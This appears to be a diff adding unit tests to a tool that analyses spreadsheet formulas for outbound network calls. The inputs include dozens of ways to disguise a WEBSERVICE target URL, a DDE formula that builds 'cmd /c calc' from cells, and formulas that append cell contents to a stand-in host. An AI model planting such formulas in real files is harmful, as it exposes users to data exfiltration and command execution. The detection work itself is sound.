@@ -161,3 +161,100 @@ describe('what a formula makes of names and cells', () => {
     expect(targets('=LET(f,LAMBDA(h,WEBSERVICE(h)),1)')).toEqual([])
   })
 })
+
+describe('text that functions put together', () => {
+  const held: Readonly<Record<string, Held>> = {
+    A1: { text: '1' },
+    B1: { text: 'no' },
+    A2: { text: '2' },
+    B2: { text: 'http://203.0.113.4/' },
+    C1: { formula: 'B2', text: 'lie' },
+  }
+  const target = 'http://203.0.113.4/'
+  it.each([
+    'VLOOKUP(2,A1:B2,2,FALSE)',
+    'HLOOKUP("no",A1:B2,2)',
+    'XLOOKUP(2,A1:A2,B1:B2)',
+    'LOOKUP(2,A1:A2,B1:B2)',
+    'INDEX(A1:B2,2,2)',
+    'INDEX({"a","b";"c","http://203.0.113.4/"},2,2)',
+    'CHOOSE(MATCH(2,A1:A2,0),"x",B2)',
+    'OFFSET(A1,1,1)',
+    'INDIRECT(ADDRESS(2,2))',
+    'INDIRECT("R2C2",FALSE)',
+    'IFERROR(1/0,"http://203.0.113.4/")',
+    'TEXT(0,"\\h\\t\\t\\p")&"://203.0.113.4/"',
+    'BASE(17,18)&"ttp://203.0.113.4/"',
+    '"http://"&INT(203.9)&"."&0&"."&(100+13)&"."&MOD(14,10)&"/"',
+    '"http://203.0."&(3+10*11)&".4/"',
+    'MID("xhttp://203.0.113.4/",FIND("h","xhttp"),99)',
+    'CHAR(ROW(A104))&"ttp://203.0.113.4/"',
+    'REDUCE("http://203",{".0",".113",".4/"},LAMBDA(a,b,a&b))',
+    'MAP({1},LAMBDA(a,"http://203.0.113.4/"))',
+    'TEXTSPLIT("http://203.0.113.4/|b","|")',
+    'TAKE(B2,1)',
+    'SORT(B2)',
+    'CELL("contents",B2)',
+    'ARRAYTOTEXT({"http://203.0.113.4/"})',
+    'IF(AND(1,NOT(FALSE),LEN("ab")=2),"http://203.0.113.4/","x")',
+    'C1',
+    'FILTER(B1:B2,{0;1})',
+    'CHOOSEROWS(B1:B2,2)',
+    'TRANSPOSE(B2)',
+  ])('is known: %s', (formula) => {
+    const { actions } = evaluate(
+      `=WEBSERVICE(${formula})`,
+      (name) => held[name],
+    )
+    expect(actions.map((a) => a.target?.toLowerCase())).toEqual([target])
+  })
+
+  it('has a bound, whatever is put on itself', () => {
+    const doubled = `=LET(a,REPT("x",30000),b,VSTACK(a,a),c,VSTACK(b,b),d,VSTACK(c,c),e,VSTACK(d,d),f,VSTACK(e,e),WEBSERVICE(TEXTJOIN("",1,f,f,f,f)))`
+    const [action] = evaluate(doubled).actions
+    expect(action!.target!.length).toBeLessThanOrEqual(32 * 1024)
+  })
+})
+
+describe('a topic that is put together of cells', () => {
+  it('is what they hold', () => {
+    const held: Readonly<Record<string, Held>> = {
+      A1: { text: '/c ' },
+      B2: { text: 'calc' },
+    }
+    const { actions } = evaluate('=cmd|A1&B2!C3', (name) => held[name])
+    expect(actions).toMatchObject([
+      { dde: { service: 'cmd', topic: '/c calc', item: 'C3' } },
+    ])
+  })
+})
+
+describe('what a formula sends', () => {
+  const sent = (formula: string) =>
+    Array.from(
+      formulaItems(
+        formula,
+        { position: 'C3' },
+        {
+          lookup: (name) =>
+            name === 'A1' ? { text: 'http://files.example/' } : undefined,
+        },
+      ),
+    ).flatMap((i) => i.sentCells ?? [])
+
+  it('is the cells behind an address', () => {
+    expect(sent('=WEBSERVICE("http://files.example/?d="&A2&B7)')).toEqual([
+      'A2',
+      'B7',
+    ])
+    expect(
+      sent('=IMPORTXML(CONCAT("http://files.example/?d=",A2:B2),"//a")'),
+    ).toEqual(['A2', 'B2'])
+  })
+
+  it('is not the cell that the address stands in', () => {
+    expect(sent('=WEBSERVICE(A1)')).toEqual([])
+    expect(sent('=WEBSERVICE("http://files.example/")&A2')).toEqual([])
+    expect(sent('=SUM(A2:B9)')).toEqual([])
+  })
+})
